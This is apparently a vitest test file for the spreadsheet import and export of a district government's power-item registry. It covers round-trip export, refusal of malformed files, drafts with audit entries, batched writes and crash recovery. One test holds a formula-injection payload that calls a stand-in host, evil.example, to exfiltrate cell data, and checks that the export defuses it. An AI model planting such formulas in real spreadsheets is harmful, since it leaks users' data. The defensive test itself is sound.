// The spreadsheet import on the real data, for an editor of 区公安分局: a broken file is reported
// row by row and column by column and writes nothing at all; a clean one becomes the right
// drafts with their audit entries; the department's export imports back as "unchanged".
import { spawn } from 'node:child_process'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportDownload, importSheet } from '../../server/services/import/spreadsheet'
import { readSheetFile, type SheetFileError } from '../../server/services/import/sheet-file'
import { createDraft } from '../../server/services/workflow/change-requests'
import { verifyAuditChain, type AuditActor } from '../../server/services/audit'
import { undoInterruptedImports, UNDONE_REASON } from '../../server/services/import/pending-imports'
import type { SheetReport } from '../../shared/spreadsheet'
import type { DomainError } from '../../server/services/errors'
import type { Prisma } from '../../server/utils/prisma'
import { OPEN_CHANGE_REQUEST_STATUSES } from '../../shared/workspace'
import { createTestEnv, waitForLockWaiter, type TestEnv } from '../helpers/services'
import { csvOf, HEADER, PNG, refusedBoth, row, writeCounter, writesNothingTo, xlsxOf, type SheetCell } from '../helpers/sheets'

let env: TestEnv
let editor: AuditActor & { id: number }
let police: { id: number }
let policeItems: { id: number; code: string; name: string; level: string }[]
let civilItem: { code: string }

const db = () => env.db.prisma
const run = (name: string, data: string | Buffer, dryRun = false) =>
  importSheet(db(), 'power', editor, police.id, { name, data: typeof data === 'string' ? Buffer.from(data) : data }, { dryRun })
const where = (report: SheetReport) => report.errors.map((e) => [e.row, e.column, e.code])
const written = writeCounter(db)
const writesNothing = writesNothingTo(written)
const refusedWhole = (name: string, data: string | Buffer) => refusedBoth(writesNothing, (dryRun) => run(name, data, dryRun))

async function fileRefusal(name: string, data: Buffer) {
  return writesNothing(() => run(name, data).then(() => null, (e: SheetFileError) => ({ status: e.status, code: e.code, message: e.message })))
}

beforeAll(async () => {
  env = await createTestEnv({ realData: true })
  police = await db().department.findUniqueOrThrow({ where: { name: '区公安分局' } })
  const civil = await db().department.findUniqueOrThrow({ where: { name: '区民政局' } })
  policeItems = await db().powerItem.findMany({ where: { departmentId: police.id, status: { not: 'CANCELLED' } }, orderBy: { code: 'asc' } })
  civilItem = await db().powerItem.findFirstOrThrow({ where: { departmentId: civil.id } })
  const user = await db().user.create({ data: { username: 'police-editor', displayName: '公安经办人', passwordHash: 'x', role: 'EDITOR', departmentId: police.id } })
  editor = { id: user.id, username: user.displayName, role: 'EDITOR', departmentId: police.id }
})
afterAll(async () => { await env.close() })

describe('export and import again', () => {
  it('gives "unchanged" for every row of the department, in Excel and in CSV', async () => {
    expect(policeItems.length).toBeGreaterThan(10)
    for (const format of ['xlsx', 'csv'] as const) {
      const file = (await exportDownload(db(), police.id, format, 'power'))!
      expect(file.fileName).toBe(`区公安分局-权力事项.${format}`)
      const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body)))
      expect(report.errors).toEqual([])
      expect(report.imported).toBe(false)
      expect(report.counts).toEqual({ ADD: 0, UPDATE: 0, UNCHANGED: policeItems.length, SKIPPED: 0 })
      expect(report.rows.map((r) => r.code)).toEqual(policeItems.map((i) => i.code))
    }
  })

  it('defuses a formula in the export and reads it back as the same text', async () => {
    const target = policeItems[0]!
    const injection = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    await db().powerItem.update({ where: { id: target.id }, data: { contact: injection, fees: '+1 收费' } })
    try {
      const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!
      expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)
      expect(csv.body).toContain("'+1 收费")
      const xlsx = (await exportDownload(db(), police.id, 'xlsx', 'power'))!
      const cells = (await readSheetFile(xlsx.fileName, xlsx.body as Buffer)).find((r) => r.cells[0]!.text === target.code)!.cells
      expect(cells[HEADER.indexOf('咨询电话')]!.text).toBe(`'${injection}`)
      for (const file of [csv, xlsx]) {
        const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body), true))
        expect(report.rows.find((r) => r.code === target.code)).toMatchObject({ outcome: 'UNCHANGED' })
      }
    } finally {
      await db().powerItem.update({ where: { id: target.id }, data: { contact: null, fees: null } })
    }
  })

  it('exports nothing for a department that does not exist', async () => {
    expect(await exportDownload(db(), 999_999, 'csv', 'power')).toBeNull()
  })
})

describe('a broken file writes nothing', () => {
  it('reports wrong and missing columns by name before anything else', async () => {
    const header = HEADER.map((h) => (h === '事项类型' ? '类别' : h))
    const report = await refusedWhole('清单.csv', csvOf([header, row('bad code!'), row(civilItem.code)]))
    expect(where(report)).toEqual([[1, '类别', 'UNKNOWN_COLUMN'], [1, '事项类型', 'MISSING_COLUMN']])
    expect(report.rows).toEqual([])
  })

  it('names bad type names and bad codes by row and column', async () => {
    const report = await refusedWhole('清单.xlsx', await xlsxOf([
      HEADER,
      row('NEW-1'),
      row('NEW-2', { 事项类型: '行政审批' }),
      row('NEW 3'),
      row('新-4', { 行使层级: '区级' }),
    ]))
    expect(where(report)).toEqual([
      [3, '事项类型', 'INVALID_TYPE'],
      [4, '事项编码', 'INVALID_CODE'],
      [5, '事项编码', 'INVALID_CODE'],
      [5, '行使层级', 'INVALID_LEVEL'],
    ])
    expect(report.errors[1]!.message).toBe('第4行「事项编码」：只能包含字母、数字和连字符')
  })

  it('refuses a code repeated within the file', async () => {
    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(policeItems[0]!.code), row('NEW-1', { 事项名称: '另一个名称' })]))
    expect(report.errors.map((e) => e.message)).toEqual(['第4行「事项编码」：事项编码 NEW-1 与第2行重复'])
  })

  it('skips and reports empty rows, and still refuses the file for its one error', async () => {
    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), [], HEADER.map(() => ''), row('NEW-2', { 事项名称: '' }), []]))
    expect(where(report)).toEqual([[5, '事项名称', 'REQUIRED']])
    expect(report.rows.map((r) => [r.row, r.outcome])).toEqual([[2, 'ADD'], [3, 'SKIPPED'], [4, 'SKIPPED']])
  })

  it("refuses another department's item by its code", async () => {
    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(civilItem.code)]))
    expect(where(report)).toEqual([[3, '事项编码', 'OTHER_DEPARTMENT']])
    expect(report.errors[0]!.message).toBe(`第3行「事项编码」：事项编码 ${civilItem.code} 是「区民政局」的事项，不能由本部门导入`)
  })

  it('refuses an item that already has an open change, naming it', async () => {
    const item = policeItems[1]!
    const open = await createDraft(db(), editor, police.id, { entityType: 'POWER_ITEM', action: 'RETAIN', entityId: item.id, payload: {} })
    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(item.code, { 事项名称: '新的名称' })]))
    expect(report.errors.map((e) => e.message)).toEqual([`第3行「事项编码」：事项 ${item.code} 已有未完成的变更（编号 ${open.id}），请先在工作台处理`])
  })

  it('reads a CSV with a byte order mark and names the row of its error', async () => {
    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row('NEW-2', { 事项类型: '许可' })], { bom: true }))
    expect(where(report)).toEqual([[3, '事项类型', 'INVALID_TYPE']])
    expect(report.rows).toMatchObject([{ row: 2, code: 'NEW-1', outcome: 'ADD' }])
  })

  it('refuses a 10 MB file and a file that is not a spreadsheet before reading a row', async () => {
    const big = Buffer.from(csvOf([HEADER, ...Array.from({ length: 40_000 }, (_, i) => row(`BIG-${i}`, { 设定依据: '依'.repeat(80) }))]))
    expect(big.byteLength).toBeGreaterThan(10 * 1024 * 1024)
    expect(await fileRefusal('清单.csv', big)).toMatchObject({ status: 413, code: 'FILE_TOO_LARGE' })
    expect(await fileRefusal('清单.xlsx', PNG)).toMatchObject({ status: 400, code: 'NOT_A_SPREADSHEET', message: '文件不是有效的 Excel（.xlsx）文件' })
    expect(await fileRefusal('清单.csv', PNG)).toMatchObject({ status: 400, code: 'NOT_A_SPREADSHEET' })
  })
})

describe('a clean file', () => {
  const unchanged = () => policeItems[2]!
  const changed = () => policeItems[3]!
  const file = () => csvOf([
    HEADER,
    row('SHEET-NEW-1', { 事项名称: '犬只登记', 俗称: '养狗、办狗证', 设定依据: '《广安市养犬管理条例》', 承诺时限: '5个工作日', 收费: '不收费', 咨询电话: '0826-2222110' }),
    [],
    row(changed().code, { 事项名称: `${changed().name}（含补办）`, 事项类型: '行政许可', 行使层级: '县（区）级' }),
    row('SHEET-NEW-2', { 事项类型: '公共服务' }),
  ], { bom: true })

  let exported: string
  beforeAll(async () => {
    // The unchanged row is the item exactly as exported.
    const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!.body as string
    exported = csv.split('\r\n').find((line) => line.startsWith(unchanged().code))!
  })

  it('is reported by a dry run without writing anything', async () => {
    const report = await writesNothing(() => run('清单.csv', `${file()}${exported}\r\n`, true))
    expect(report.errors).toEqual([])
    expect(report).toMatchObject({ dryRun: true, imported: false, counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 } })
    expect(report.rows.map((r) => [r.row, r.outcome, r.code])).toEqual([
      [2, 'ADD', 'SHEET-NEW-1'],
      [3, 'SKIPPED', null],
      [4, 'UPDATE', changed().code],
      [5, 'ADD', 'SHEET-NEW-2'],
      [6, 'UNCHANGED', unchanged().code],
    ])
    expect(report.rows[2]!.changed).toContain('事项名称')
  })

  it('becomes ADD and UPDATE drafts of the department, with the audit entries, in one go', async () => {
    const before = await written()
    const report = await run('清单.csv', `${file()}${exported}\r\n`)
    expect(report).toMatchObject({ dryRun: false, imported: true, errors: [], counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 } })
    expect(await written()).toEqual({ changeRequests: before.changeRequests + 3, auditEntries: before.auditEntries + 4 })

    const ids = report.rows.map((r) => r.changeRequestId)
    expect(ids.filter((id) => id !== null)).toHaveLength(3)
    const drafts = await db().changeRequest.findMany({ where: { id: { in: ids.filter((id): id is number => id !== null) } }, orderBy: { id: 'asc' } })
    expect(drafts.map((d) => [d.action, d.entityId, d.status, d.departmentId, d.authorId])).toEqual([
      ['ADD', null, 'DRAFT', police.id, editor.id],
      ['UPDATE', changed().id, 'DRAFT', police.id, editor.id],
      ['ADD', null, 'DRAFT', police.id, editor.id],
    ])
    expect(drafts[0]!.payload).toEqual({
      code: 'SHEET-NEW-1', name: '犬只登记', aliases: ['养狗', '办狗证'], type: 'LICENSING', groupName: null, legalBasis: '《广安市养犬管理条例》',
      level: 'COUNTY', timeLimit: '5个工作日', fees: '不收费', contact: '0826-2222110',
    })
    expect(drafts[1]!.payload).toMatchObject({ name: `${changed().name}（含补办）` })
    expect(drafts[2]!.payload).toMatchObject({ code: 'SHEET-NEW-2', type: 'PUBLIC_SERVICE' })

    const audit = await db().auditEntry.findMany({ orderBy: { seq: 'desc' }, take: 4 })
    expect(audit.map((a) => a.action).sort()).toEqual(['draft.create', 'draft.create', 'draft.create', 'draft.import'])
    expect(audit.find((a) => a.action === 'draft.import')!.after).toMatchObject({
      fileName: '清单.csv', departmentId: police.id, counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 }, changeRequestIds: drafts.map((d) => d.id),
    })
    // The published item is untouched until the reform office decides.
    expect((await db().powerItem.findUniqueOrThrow({ where: { id: changed().id } })).name).toBe(changed().name)
  })

  it('is refused whole the second time: the items now have open changes and the new codes are proposed', async () => {
    const report = await refusedWhole('清单.csv', `${file()}${exported}\r\n`)
    expect(where(report)).toEqual([[2, '事项编码', 'CODE_PROPOSED'], [4, '事项编码', 'OPEN_CHANGE'], [5, '事项编码', 'CODE_PROPOSED']])
  })
})

describe('written in batches, as on the embedded database', () => {
  const sheet = (prefix: string, count: number, last?: SheetCell[]) => csvOf([HEADER, ...Array.from({ length: count }, (_, i) => row(`${prefix}-${i}`)), ...(last ? [last] : [])])
  const batched = (data: string, batchSize: number) => importSheet(db(), 'power', editor, police.id, { name: '清单.csv', data: Buffer.from(data) }, { dryRun: false, batchSize })
  const pendingImports = () => db().setting.count({ where: { key: { startsWith: 'import.pending.' } } })

  it('writes the same drafts and audit entries as one transaction would', async () => {
    const before = await written()
    const report = await batched(sheet('BATCH', 95), 20)
    expect(report).toMatchObject({ imported: true, errors: [], counts: { ADD: 95 } })
    const ids = report.rows.map((r) => r.changeRequestId!)
    const drafts = await db().changeRequest.findMany({ where: { id: { in: ids } }, orderBy: { id: 'asc' } })
    expect(drafts.map((d) => (d.payload as { code: string }).code)).toEqual(Array.from({ length: 95 }, (_, i) => `BATCH-${i}`))
    expect(drafts.map((d) => d.id)).toEqual(ids)
    expect(await written()).toEqual({ changeRequests: before.changeRequests + 95, auditEntries: before.auditEntries + 96 })
    const entry = await db().auditEntry.findFirstOrThrow({ where: { action: 'draft.import' }, orderBy: { seq: 'desc' } })
    expect((entry.after as { changeRequestIds: number[] }).changeRequestIds).toEqual(ids)
    expect(await pendingImports()).toBe(0)
  })

  it('withdraws what it wrote when a later batch meets a change made meanwhile, and reports the row', async () => {
    const item = policeItems[5]!
    const last = (await db().changeRequest.aggregate({ _max: { id: true } }))._max.id ?? 0
    const importing = batched(sheet('RACE', 300, row(item.code, { 事项名称: `${item.name}（新）` })), 10)
    // Once the first batches are in, someone else opens a change on the sheet's last item.
    while (await db().changeRequest.count({ where: { id: { gt: last } } }) === 0) await new Promise((r) => setTimeout(r, 10))
    const manual = await createDraft(db(), editor, police.id, { entityType: 'POWER_ITEM', action: 'RETAIN', entityId: item.id, payload: {} })
    const report = await importing
    expect(report.imported).toBe(false)
    expect(where(report)).toEqual([[302, '事项编码', 'OPEN_CHANGE']])

    const written = await db().changeRequest.findMany({ where: { id: { gt: last, not: manual.id } } })
    expect(written.length).toBeGreaterThan(0)
    expect(new Set(written.map((d) => d.status))).toEqual(new Set(['WITHDRAWN']))
    const withdrawals = await db().auditEntry.findMany({ where: { action: 'draft.withdraw', entityId: { in: written.map((d) => String(d.id)) } } })
    expect(withdrawals).toHaveLength(written.length)
    expect(withdrawals[0]!.reason).toBe(UNDONE_REASON)
    expect((await db().changeRequest.findUniqueOrThrow({ where: { id: manual.id } })).status).toBe('DRAFT')
    expect(await pendingImports()).toBe(0)
    expect(await verifyAuditChain(db())).toMatchObject({ ok: true })
  })

  /**
   * Another process's draft, inserted but not committed when the import writes the batch that
   * holds the same record or code. The import's checks cannot see it; the database's one-open-
   * change indexes make the batch wait for it and refuse once it commits. Returns the refusal.
   */
  async function raceDraftInFlight(inFlight: (ids: { author: number; department: number }) => Prisma.ChangeRequestUncheckedCreateInput, rows: SheetCell[][]) {
    const last = (await db().changeRequest.aggregate({ _max: { id: true } }))._max.id ?? 0
    let release!: () => void
    const held = new Promise<void>((resolve) => { release = resolve })
    let inserted!: () => void
    const ready = new Promise<void>((resolve) => { inserted = resolve })
    const other = db().$transaction(async (tx) => {
      const draft = await tx.changeRequest.create({ data: inFlight({ author: editor.id, department: police.id }) })
      inserted()
      await held
      return draft
    }, { timeout: 60_000 })
    await ready
    const importing = batched(csvOf([HEADER, ...rows]), 10).then(() => null, (error: DomainError) => error)
    await waitForLockWaiter(db())
    release()
    const committed = await other
    const refusal = await importing

    // The first two batches were written, then withdrawn; the third never was.
    const written = await db().changeRequest.findMany({ where: { id: { gt: last, not: committed.id } } })
    expect(written).toHaveLength(20)
    expect(new Set(written.map((d) => d.status))).toEqual(new Set(['WITHDRAWN']))
    expect(await db().auditEntry.count({ where: { action: 'draft.withdraw', reason: UNDONE_REASON, entityId: { in: written.map((d) => String(d.id)) } } })).toBe(20)
    expect(await pendingImports()).toBe(0)
    expect(await verifyAuditChain(db())).toMatchObject({ ok: true })
    await db().changeRequest.update({ where: { id: committed.id }, data: { status: 'WITHDRAWN' } })
    return refusal
  }

  /** Two items of the department no change holds now. */
  async function freeItems() {
    const held = new Set((await db().changeRequest.findMany({ where: { status: { in: [...OPEN_CHANGE_REQUEST_STATUSES] } }, select: { entityId: true } })).map((c) => c.entityId))
    return policeItems.filter((i) => !held.has(i.id)).slice(0, 2) as [typeof policeItems[number], typeof policeItems[number]]
  }

  const newRows = (prefix: string, from: number, count: number) => Array.from({ length: count }, (_, i) => row(`${prefix}-${from + i}`))

  it('answers 409 OPEN_CHANGE_EXISTS when a draft of a row\'s item commits while its batch is written, and withdraws the batches before', async () => {
    const [item] = await freeItems()
    const refusal = await raceDraftInFlight(
      ({ author, department }) => ({ entityType: 'POWER_ITEM', entityId: item.id, action: 'RETAIN', departmentId: department, authorId: author, payload: {}, status: 'DRAFT' }),
      [...newRows('INFLIGHT', 0, 25), row(item.code, { 事项名称: `${item.name}（导入）` }), ...newRows('INFLIGHT', 25, 4)],
    )
    expect(refusal).toMatchObject({ status: 409, code: 'OPEN_CHANGE_EXISTS', message: '该事项已有未完成的变更' })
  })

  it('answers 409 ITEM_CODE_TAKEN when a proposal of a row\'s new code commits while its batch, new and changed items together, is written', async () => {
    const [, item] = await freeItems()
    const refusal = await raceDraftInFlight(
      ({ author, department }) => ({ entityType: 'POWER_ITEM', action: 'ADD', proposedCode: 'PROPOSED-25', departmentId: department, authorId: author, payload: { code: 'PROPOSED-25' }, status: 'DRAFT' }),
      [...newRows('PROPOSED', 0, 26), row(item.code, { 事项名称: `${item.name}（导入）` }), ...newRows('PROPOSED', 26, 3)],
    )
    expect(refusal).toMatchObject({ status: 409, code: 'ITEM_CODE_TAKEN' })
  })

  it('is undone when its process was killed half-way, once the next process starts', { timeout: 120_000 }, async () => {
    const last = (await db().changeRequest.aggregate({ _max: { id: true } }))._max.id ?? 0
    const child = spawn(process.execPath, ['--import', 'tsx', 'tests/helpers/import-child.ts'], {
      env: { ...process.env, DATABASE_URL: env.config.databaseUrl, DEPARTMENT_ID: String(police.id), USER_ID: String(editor.id) },
      stdio: 'ignore',
    })
    const gone = new Promise((resolve) => child.once('exit', resolve))
    while (await db().changeRequest.count({ where: { id: { gt: last } } }) < 20) await new Promise((r) => setTimeout(r, 10))
    child.kill('SIGKILL')
    await gone
    // A commit the database had already received when the process died still completes.
    const count = () => db().changeRequest.count({ where: { id: { gt: last } } })
    for (let seen = -1; seen !== await count();) {
      seen = await count()
      await new Promise((r) => setTimeout(r, 500))
    }
    const written = await db().changeRequest.findMany({ where: { id: { gt: last } } })
    expect(written.length).toBeLessThan(400)
    expect(await pendingImports()).toBe(1)

    expect(await undoInterruptedImports(db())).toBe(written.length)
    expect(await db().changeRequest.count({ where: { id: { gt: last }, status: { not: 'WITHDRAWN' } } })).toBe(0)
    expect(await db().auditEntry.count({ where: { action: 'draft.withdraw', reason: UNDONE_REASON, actorName: 'system' } })).toBe(written.length)
    expect(await pendingImports()).toBe(0)
    expect(await verifyAuditChain(db())).toMatchObject({ ok: true })
  })
})
